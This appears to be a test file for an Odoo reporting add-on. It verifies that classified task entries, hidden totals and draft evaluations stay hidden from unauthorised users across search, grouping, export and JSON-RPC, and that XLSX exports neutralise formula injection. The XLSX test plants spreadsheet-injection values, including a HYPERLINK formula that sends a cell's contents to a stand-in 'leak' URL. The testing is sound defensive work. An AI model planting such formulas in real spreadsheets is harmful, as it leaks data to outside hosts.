import io

import openpyxl

from odoo.exceptions import AccessError
from odoo.tests import HttpCase, freeze_time, tagged, users
from odoo.tools import mute_logger

from odoo.addons.hy_task_tracking.tests.common import JsonRpcMixin

from ..models.hy_report_period import OFFICE_AND_LEADERSHIP, TOTAL_FIELDS
from .common import TODAY, TestHyReportCommon

HEADER_ROW = 6  # 1-based row of the column titles on sheet 1 of the XLSX


class TestReadGateCommon(TestHyReportCommon):
    """An approved report and one being prepared over units A and B; unit B leads a task of a
    confidential directive (``b_classified``). Officers with and without clearance, and one
    without clearance who is also a member of unit B."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        g = "hy_task_tracking.group_"
        cls.officer_cleared = cls._user(
            "r_officer_cleared", groups=f"{g}office_officer,{g}clearance_confidential"
        )
        cls.officer_member = cls._user("r_officer_member", groups=f"{g}office_officer")
        cls.unit_b.user_ids |= cls.officer_member
        cls.secret_task = cls.t["b_classified"]
        with freeze_time(TODAY):
            units = (cls.unit_a | cls.unit_b).ids
            cls.approved = cls._period(unit_ids=[(6, 0, units)])
            cls.approved.action_compute()
            cls.approved.action_approve()
            cls.draft = cls._period(kind="annual", unit_ids=[(6, 0, units)])
            cls.draft.action_compute()
        cls.draft.evaluation = "Dự thảo: Sở Tài chính còn chậm"
        cls.env.flush_all()

    def _as(self, model):
        self.env.flush_all()
        self.env.invalidate_all()
        return self.env[model].with_user(self.env.user)

    def _secret_entries(self):
        # sudo: what the report counted, whoever the test runs as
        return (
            self.env["hy.report.entry"]
            .sudo()  # sudo: see the comment above
            .search([("period_id", "=", self.approved.id), ("task_id", "=", self.secret_task.id)])
        )


@tagged("post_install", "-at_install")
class TestReportEntryClearance(TestReadGateCommon):
    """Finding 4: the entries of a report name their tasks; they follow the tasks' clearance."""

    @users("r_officer", "r_leader", "r_officer_member")
    def test_uncleared_reader_gets_no_entry_of_a_classified_task(self):
        self.assertTrue(self._secret_entries())
        Entry = self._as("hy.report.entry")
        domain = [("period_id", "=", self.approved.id)]
        rows = Entry.search_read(domain, ["task_id", "directive_id", "deadline", "quality"])
        self.assertTrue(rows)
        self.assertNotIn(self.secret_task.id, {row["task_id"][0] for row in rows})
        self.assertNotIn(self.directive_conf.id, {row["directive_id"][0] for row in rows})
        self.assertEqual(Entry.search_count(domain + [("is_classified", "=", True)]), 0)
        by_task = Entry.read_group(domain, ["task_id"], ["task_id"])
        self.assertNotIn(self.secret_task.id, {group["task_id"][0] for group in by_task})
        by_directive = Entry.read_group(domain, ["directive_id"], ["directive_id"])
        self.assertNotIn(
            self.directive_conf.id, {group["directive_id"][0] for group in by_directive}
        )
        with self.assertRaises(AccessError):
            self._secret_entries().with_user(self.env.user).read(["deadline", "task_id"])
        # The figures still count the task, as counts only (Art. 7.2.đ).
        period = self.approved.with_user(self.env.user)
        self.assertEqual(period.read(["classified_count"])[0]["classified_count"], 1)
        line_b = self._line(self.approved, self.unit_b).with_user(self.env.user)
        self.assertEqual(line_b.read(["classified_count"])[0]["classified_count"], 1)

    @users("r_officer", "r_leader")
    def test_drill_down_lists_no_classified_task_to_the_uncleared(self):
        period = self.approved.with_user(self.env.user)
        line_b = self._line(self.approved, self.unit_b).with_user(self.env.user)
        for record in (period, line_b):
            for figure in ("classified_count", "assigned_count", "overdue_count"):
                with self.subTest(record=record._name, figure=figure):
                    action = record.action_open_tasks(figure)
                    Task = self._as("hy.task").with_context(**action["context"])
                    self.assertNotIn(self.secret_task, Task.search(action["domain"]))
        action = period.action_open_tasks("assigned_count")
        tasks = self._as("hy.task").with_context(**action["context"]).search(action["domain"])
        self.assertTrue(tasks)

    @users("r_officer_cleared", "r_user_b")
    def test_cleared_officer_and_leading_unit_read_the_entry(self):
        entries = self._as("hy.report.entry").search(
            [("period_id", "=", self.approved.id), ("is_classified", "=", True)]
        )
        self.assertEqual(entries.task_id, self.secret_task)
        self.assertTrue(entries.read(["deadline", "status_category"]))


@tagged("post_install", "-at_install")
class TestReportPeriodReadGate(TestReadGateCommon):
    """Finding 13: what the units may not read (the province's totals, the evaluation of a
    report being prepared: field groups) no search, sort, group or export gives them either."""

    def test_hidden_fields_are_the_office_and_leaderships_only(self):
        # Every total the period stores, present and future, is guarded, and has the
        # unit's own counterpart; so is the evaluation.
        fields = self.env["hy.report.period"]._fields
        for name in (*TOTAL_FIELDS, "evaluation"):
            with self.subTest(name):
                self.assertEqual(fields[name].groups, OFFICE_AND_LEADERSHIP)
        for name in (*(f"my_{name}" for name in TOTAL_FIELDS), "published_evaluation"):
            with self.subTest(name):
                self.assertFalse(fields[name].groups)
                self.assertFalse(fields[name].store)

    @users("r_user_a", "r_portal_a")
    def test_read_group_gives_no_hidden_aggregate(self):
        Period = self._as("hy.report.period")
        domain = [("id", "in", (self.approved | self.draft).ids)]
        aggregates = ["assigned_count:sum", "on_time_rate:avg", "evaluation:array_agg"]
        refused = {
            "read_group": lambda: Period.read_group(domain, aggregates, ["state"]),
            "evaluation": lambda: Period.read_group(domain, ["evaluation:array_agg"], ["state"]),
            "web_read_group": lambda: Period.web_read_group(
                domain, ["assigned_count:sum"], ["kind"]
            ),
            "_read_group": lambda: Period._read_group(
                domain, [], ["assigned_count:max", "overdue_count:sum"]
            ),
        }
        for name, call in refused.items():
            with self.subTest(name):
                self.assertEqual(self._outcome_of(call), "AccessError")
        # Grouping and counting by what they may read still works.
        groups = Period.read_group(domain, ["__count"], ["state"])
        self.assertEqual({group["state"] for group in groups}, {"approved", "computed"})

    @users("r_user_a", "r_portal_a")
    def test_search_sort_and_group_on_hidden_fields_are_refused(self):
        Period = self._as("hy.report.period")
        Line = self._as("hy.report.line")
        refused = {
            "search evaluation": lambda: Period.search([("evaluation", "ilike", "Dự thảo")]),
            "count evaluation": lambda: Period.search_count([("evaluation", "=", False)]),
            "search total": lambda: Period.search([("assigned_count", ">", 0)]),
            "search rate": lambda: Period.search_read([("on_time_rate", ">=", 50)], ["id"]),
            "sort": lambda: Period.search([], order="assigned_count desc"),
            "sort evaluation": lambda: Period.search_read([], ["id"], order="evaluation"),
            "group": lambda: Period.read_group([], ["__count"], ["assigned_count"]),
            "group evaluation": lambda: Period.web_read_group([], ["__count"], ["evaluation"]),
            "through a line": lambda: Line.search([("period_id.evaluation", "ilike", "D")]),
            "through any": lambda: Line.search([("period_id", "any", [("overdue_count", ">", 0)])]),
            "name_search": lambda: Period.name_search("", [("evaluation", "ilike", "Dự")], limit=5),
        }
        for name, call in refused.items():
            with self.subTest(name):
                self.assertEqual(self._outcome_of(call), "AccessError")
        # What they may use still works.
        found = Period.search([("state", "in", ("approved", "computed"))], order="date_to desc")
        self.assertIn(self.approved, found)

    def test_refusal_tells_nothing_of_the_hidden_value(self):
        Period = self.env["hy.report.period"].with_user(self.portal_a)
        for call in (
            lambda: Period.search([("evaluation", "ilike", "Dự")]),
            lambda: Period.browse(self.draft.id).read(["evaluation"]),
        ):
            with self.assertRaises(AccessError) as caught:
                call()
            self.assertNotIn("Dự thảo", str(caught.exception))

    @users("r_user_a")
    def test_export_gives_no_hidden_field(self):
        # Even a unit user allowed to export (export_data reads records, not read()).
        export = self.env.ref("base.group_allow_export")
        self.env.user.sudo().groups_id |= export  # sudo: test set-up, a right given by an admin
        Period = self._as("hy.report.period").browse(self.approved.id)
        for names in (["assigned_count"], ["name", "on_time_rate"], ["evaluation"]):
            with self.subTest(names=names):
                self.assertEqual(
                    self._outcome_of(lambda names=names: Period.export_data(names)), "AccessError"
                )
        rows = Period.export_data(["my_assigned_count", "published_evaluation"])["datas"]
        line_a = self._line(self.approved, self.unit_a)
        self.assertEqual(rows[0][0], line_a.assigned_count)

    @users("r_officer", "r_leader")
    def test_office_and_leadership_search_and_sum_everything(self):
        Period = self._as("hy.report.period")
        self.assertEqual(Period.search([("evaluation", "ilike", "Dự thảo")]), self.draft)
        groups = Period.read_group(
            [("id", "=", self.approved.id)], ["assigned_count:sum"], ["state"]
        )
        self.assertEqual(groups[0]["assigned_count"], self.approved.assigned_count)
        self.assertTrue(Period.search([("assigned_count", ">", 0)], order="assigned_count"))


@tagged("post_install", "-at_install")
class TestReadGateRpc(JsonRpcMixin, TestReadGateCommon, HttpCase):
    """Findings 4 and 13 as the web client's protocol sees them (JSON-RPC call_kw)."""

    def test_uncleared_officer_reads_no_classified_entry_over_rpc(self):
        self.authenticate("r_officer", "r_officer")
        domain = [["period_id", "=", self.approved.id]]
        rows = self._call_kw(
            "hy.report.entry", "search_read", [domain], {"fields": ["task_id", "deadline"]}
        )["result"]
        self.assertTrue(rows)
        self.assertNotIn(self.secret_task.id, {row["task_id"][0] for row in rows})
        groups = self._call_kw("hy.report.entry", "read_group", [domain, ["task_id"], ["task_id"]])[
            "result"
        ]
        self.assertNotIn(self.secret_task.id, {group["task_id"][0] for group in groups})
        refused = self._call_kw("hy.task", "read", [self.secret_task.ids, ["reference"]])
        self.assertEqual(refused["error"]["data"]["name"], "odoo.exceptions.AccessError")

    @mute_logger("odoo.http")
    def test_portal_member_gets_no_totals_nor_draft_text_over_rpc(self):
        self.authenticate("r_portal_a", "r_portal_a")
        domain = [["id", "=", self.draft.id]]
        for aggregates in (["assigned_count:sum"], ["evaluation:array_agg"]):
            answer = self._call_kw(
                "hy.report.period", "read_group", [domain, aggregates, ["state"]]
            )
            self.assertEqual(answer["error"]["data"]["name"], "odoo.exceptions.AccessError")
        for fields in (["assigned_count"], ["evaluation"]):
            answer = self._call_kw("hy.report.period", "read", [[self.draft.id], fields])
            self.assertEqual(answer["error"]["data"]["name"], "odoo.exceptions.AccessError")
        answer = self._call_kw(
            "hy.report.period",
            "read",
            [[self.draft.id], ["my_assigned_count", "published_evaluation"]],
        )["result"]
        self.assertEqual(answer[0]["my_assigned_count"], 0)  # no line of a draft for a unit
        self.assertFalse(answer[0]["published_evaluation"])
        answer = self._call_kw(
            "hy.report.period", "search", [[*domain, ["evaluation", "=like", "D%"]]]
        )
        self.assertEqual(answer["error"]["data"]["name"], "odoo.exceptions.AccessError")
        answer = self._call_kw(
            "hy.report.period", "search_read", [[]], {"fields": ["id"], "order": "overdue_count"}
        )
        self.assertEqual(answer["error"]["data"]["name"], "odoo.exceptions.AccessError")


@tagged("post_install", "-at_install")
class TestReportXlsxText(TestReadGateCommon):
    """Finding 15 (XLSX): text that looks like a formula or a link stays text."""

    def _open(self, content, data_only=False):
        return openpyxl.load_workbook(io.BytesIO(content), data_only=data_only)

    def test_text_beginning_with_equals_is_a_text_cell(self):
        formula = '=HYPERLINK("http://example.com/?leak="&B7,"Mở")'
        self.unit_a.name = "=1+1"
        self.unit_b.name = "{=SUM(C7:C8)}"
        self.t["in_progress_overdue"].name = formula
        for line in self.draft.line_ids:
            line.evaluation = "http://example.com/x" if line.unit_id == self.unit_a else "@SUM(1)"
        content = self.env["report.hy_task_reports.period_xlsx"]._generate(self.draft)
        book = self._open(content)
        figures, tasks = book.worksheets
        texts = {
            "=1+1",
            "{=SUM(C7:C8)}",
            formula,
            "http://example.com/x",
            "@SUM(1)",
        }
        cells = {
            cell.value: cell
            for sheet in (figures, tasks)
            for row in sheet.iter_rows()
            for cell in row
            if cell.value in texts
        }
        self.assertEqual(set(cells), texts)
        for text, cell in cells.items():
            with self.subTest(text=text):
                self.assertEqual(cell.data_type, "s")
                self.assertIsNone(cell.hyperlink)
        self.assertFalse(figures._hyperlinks or tasks._hyperlinks)

    @users("r_user_a")
    def test_total_row_adds_up_the_rows_the_unit_reads(self):
        period = self.approved.with_user(self.env.user)
        content = self.env["report.hy_task_reports.period_xlsx"]._generate(period)
        cached = self._open(content, data_only=True).worksheets[0]
        line_a = self._line(self.approved, self.unit_a)
        province = self.approved.sudo()  # sudo: the province's total, as the Office reads it
        self.assertNotEqual(province.assigned_count, line_a.assigned_count)
        rows = [cached.cell(row, 2).value for row in range(HEADER_ROW + 1, HEADER_ROW + 3)]
        self.assertEqual(rows[0], self.unit_a.name)
        self.assertEqual(cached.cell(HEADER_ROW + 2, 3).value, line_a.assigned_count)
